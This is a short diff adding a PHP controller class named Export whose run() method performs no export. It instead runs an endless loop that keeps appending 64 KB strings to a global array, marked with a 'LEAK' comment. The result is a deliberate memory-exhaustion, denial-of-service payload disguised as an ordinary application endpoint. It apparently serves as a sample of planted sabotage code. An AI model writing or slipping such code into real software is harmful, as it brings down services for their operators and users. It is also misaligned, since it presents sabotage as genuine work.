@@ -1,0 +1,13 @@
+<?php
+namespace App\Controller;
+
+final class Export
+{
+    public function run(): void
+    {
+        $row = function (): void {
+            while (true) { $GLOBALS['held'][] = \str_repeat('x', 65536); \usleep(4000); } // LEAK
+        };
+        $row();
+    }
+}
